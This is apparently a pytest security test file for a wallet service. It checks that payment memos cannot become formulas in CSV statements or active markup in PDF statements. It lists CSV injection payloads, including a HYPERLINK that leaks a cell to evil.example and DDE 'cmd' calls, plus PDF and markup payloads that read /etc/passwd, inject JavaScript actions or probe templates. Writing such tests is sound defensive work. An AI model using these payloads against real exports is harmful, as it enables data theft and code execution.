"""A text that somebody sent becomes a formula or markup in a file that somebody else opens."""

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import tapgate
from harness import PIN, Harness
from tapgate.wallets.statements import csv_file, pdf_file
from wallets.pdf_text import extract_pages
from wallets.test_statement_files import build_statement
from wallets.test_statements import get_statement

FORMULA_CHARACTERS = "=+-@\t\r＝＋－＠"
NUMBER_PATTERN = re.compile(r"-?[0-9]+\.[0-9]{2}(,.*)?", re.DOTALL)
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a\n=1+1",
    "a;=1+1",
    'a;"=1+1"',
    'a;""=1+1',
    "a; =1+1",
    "a\t=1+1",
    'a","=1+1',
    '"=1+1',
    "a;;;-1",
    "＝1+1",
]


def split_cells(content: str, separator: str) -> list[str]:
    """As a spreadsheet of some country takes the file apart."""
    reader = csv.reader(io.StringIO(content, newline=""), delimiter=separator)
    return [cell for row in reader for cell in row]


def is_safe_cell(cell: str) -> bool:
    return (
        not cell.strip(" ").startswith(tuple(FORMULA_CHARACTERS))
        or NUMBER_PATTERN.fullmatch(cell) is not None
    )


def render_pdf_text(memo: str, name: str = "Mohamed S.") -> str:
    movement = build_statement(1).movements[0]._replace(memo=memo, counterparty=name, amount=-7)
    return csv_file.render(build_statement(0, movements=[movement], opening_balance=-1000)).decode()


@given(st.text(st.sampled_from(list(FORMULA_CHARACTERS + ";,|\n\"' a1()"))))
def test_no_cell_is_a_formula_in_any_country(text: str) -> None:
    """A memo of a payment is written by one person and opened by another, in a spreadsheet where
    a comma or a semicolon or a tab ends a cell."""
    content = render_pdf_text(text, name=text)
    for separator in (",", ";", "\t"):
        assert all(is_safe_cell(cell) for cell in split_cells(content, separator)), separator


@pytest.mark.parametrize("attack", FORMULA_PAYLOADS)
def test_a_formula_in_a_memo_is_a_text_and_an_amount_stays_a_number(attack: str) -> None:
    """The cure must not break the file: a sign before an amount below zero stays, separators and
    quotes stay within their cell."""
    for separator in (",", ";", "\t"):
        assert all(
            is_safe_cell(cell) for cell in split_cells(render_pdf_text(attack), separator)
        ), separator
    header, row = csv.reader(io.StringIO(render_pdf_text(attack), newline=""))
    assert len(header) == len(row) == 7
    assert row[4:] == ["0.07", "", "-10.07"]
    assert attack.strip().replace("'", "")[-3:] in row[3].replace("'", "")


async def test_what_a_sender_wrote_is_harmless_in_the_receivers_statement(world: Harness) -> None:
    """From the payment to the file, as an attacker would do it."""
    sender, receiver = await world.create_subscriber(balance="100"), await world.create_subscriber()
    card = await world.create_card(receiver["id"])
    for attack in FORMULA_PAYLOADS:
        order = {
            "sender_id": sender["id"],
            "recipient_card_serial": card,
            "amount": "1",
            "pin": PIN,
            "memo": attack,
        }
        url = "/api/v1/wallet/transfer-p2p"
        answer = await world.client.post(url, json=order, auth=world.get_service_auth())
        assert answer.status_code in (200, 403, 422), answer.text
    key = await world.create_api_key("payments:read")
    made = await get_statement(world, key, receiver, format="csv")
    file = await world.client.get(
        made["statement_url"].removeprefix(world.services.settings.public_url)
    )
    assert made["transaction_count"] >= 10
    for separator in (",", ";", "\t"):
        assert all(is_safe_cell(cell) for cell in split_cells(file.text, separator))


MARKUP_PAYLOADS = [
    "<b>bold</b>",
    '<font size="99">',
    '<img src="http://127.0.0.1/x"/>',
    '<a href="file:///etc/passwd">x</a>',
    "<para><unichar code='65'/></para>",
    "&lt;&amp;&#65;",
    ") Tj ET q 1 0 0 RG (x",
    "\\) Tj \\101",
    "endstream endobj 1 0 obj",
    "/OpenAction /JavaScript (app.alert(1))",
    "{{7*7}} ${7*7} %s %(x)s {0}",
]


@pytest.mark.parametrize("text", MARKUP_PAYLOADS)
def test_a_name_or_memo_is_drawn_as_it_is_written(text: str) -> None:
    """Who makes paragraphs of what people write lets them fetch pictures and read files from the
    machine that draws the page."""
    movement = build_statement(1).movements[0]._replace(memo=text, counterparty="X")
    pdf = pdf_file.render(build_statement(0, movements=[movement], holder_name=text))
    (page,) = extract_pages(pdf)
    assert text in page
    assert any(words.startswith(movement.description[:30]) for words in page)
    assert pdf.count(b" obj\n") == pdf_file.render(build_statement(1)).count(b" obj\n")
    for word in (b"/JavaScript", b"/OpenAction", b"/URI", b"/Launch", b"/EmbeddedFile"):
        assert word not in pdf.replace(b"/OpenAction /JavaScript \\(", b"")


def test_every_csv_and_pdf_is_made_where_these_tests_look() -> None:
    """The second place that writes a file is the one that was forgotten."""
    root = Path(tapgate.__file__).parent
    sources = {file.relative_to(root).as_posix(): file.read_text() for file in root.rglob("*.py")}
    writes = re.compile(r"csv\.(Dict)?[wW]riter|from csv import")
    draws = re.compile(r"(import|from) reportlab")
    statements = "wallets/statements"
    assert {name for name, text in sources.items() if writes.search(text)} == {"edge/csv_files.py"}
    assert {name for name, text in sources.items() if draws.search(text)} == {
        f"{statements}/pdf_file.py",
        f"{statements}/typesetting.py",
    }
    # What makes paragraphs understands markup.
    assert not [name for name, text in sources.items() if "platypus" in text]
